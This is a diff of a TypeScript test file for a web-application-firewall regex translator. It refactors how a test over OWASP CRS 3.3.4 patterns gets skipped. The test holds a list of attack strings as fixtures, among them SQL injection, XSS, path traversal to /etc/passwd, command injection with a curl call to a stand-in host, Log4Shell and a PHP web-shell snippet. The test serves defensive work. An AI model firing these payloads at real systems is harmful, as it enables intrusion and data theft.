@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { translatePcre, type PcreOptions, type TranslatedRegex } from '#engine/waf/regex';
+import { missing } from '../../../support/crs-dirs.ts';
 import { CRS3_RULES, rxPatterns } from './crs-patterns.ts';
-import { existsSync } from 'node:fs';
 
 const RX: PcreOptions = { dotall: true, dollarEndOnly: true };
 
@@ -70,42 +70,39 @@ describe('required literals', () => {
     for (const [pattern, input] of cases) expect(holds(pattern, input)).toBe(true);
   });
 
-  it.skipIf(!existsSync(CRS3_RULES))(
-    'holds for every CRS 3.3.4 pattern on attack strings',
-    () => {
-      const inputs = [
-        "1' OR '1'='1",
-        '1 UNION SELECT password FROM users--',
-        '<script>alert(1)</script>',
-        '<img src=x onerror=alert(1)>',
-        'javascript:alert(document.cookie)',
-        '../../../../etc/passwd',
-        '..\\..\\windows\\win.ini',
-        '127.0.0.1;cat /etc/passwd',
-        '$(curl http://x)',
-        '${jndi:ldap://x/a}',
-        '<?php system($_GET["c"]); ?>',
-        'sleep(5)#',
-        "'; DROP TABLE users; --",
-        '{{7*7}}',
-        'Mozilla/5.0 (compatible; Nikto/2.1.6)',
-        'bytes=0-,5-',
-        '%00%0d%0a',
-        'O:8:"stdClass":0:{}',
-        'java.lang.Runtime',
-        '() { :; }; echo vulnerable',
-      ];
-      for (const { pattern } of rxPatterns(CRS3_RULES)) {
-        let t: TranslatedRegex;
-        try {
-          t = translatePcre(pattern, RX);
-        } catch {
-          continue; // untranslatable patterns are reported by crs-patterns.test.ts
-        }
-        const re = new RegExp(t.source, t.flags);
-        for (const input of inputs) expect(holdsFor(t, input, re), `${pattern} on ${input}`).toBe(true);
+  it('holds for every CRS 3.3.4 pattern on attack strings', ({ skip }) => {
+    if (missing.crs3) skip(missing.crs3);
+    const inputs = [
+      "1' OR '1'='1",
+      '1 UNION SELECT password FROM users--',
+      '<script>alert(1)</script>',
+      '<img src=x onerror=alert(1)>',
+      'javascript:alert(document.cookie)',
+      '../../../../etc/passwd',
+      '..\\..\\windows\\win.ini',
+      '127.0.0.1;cat /etc/passwd',
+      '$(curl http://x)',
+      '${jndi:ldap://x/a}',
+      '<?php system($_GET["c"]); ?>',
+      'sleep(5)#',
+      "'; DROP TABLE users; --",
+      '{{7*7}}',
+      'Mozilla/5.0 (compatible; Nikto/2.1.6)',
+      'bytes=0-,5-',
+      '%00%0d%0a',
+      'O:8:"stdClass":0:{}',
+      'java.lang.Runtime',
+      '() { :; }; echo vulnerable',
+    ];
+    for (const { pattern } of rxPatterns(CRS3_RULES)) {
+      let t: TranslatedRegex;
+      try {
+        t = translatePcre(pattern, RX);
+      } catch {
+        continue; // untranslatable patterns are reported by crs-patterns.test.ts
       }
-    },
-    60_000,
-  );
+      const re = new RegExp(t.source, t.flags);
+      for (const input of inputs) expect(holdsFor(t, input, re), `${pattern} on ${input}`).toBe(true);
+    }
+  }, 60_000);
 });
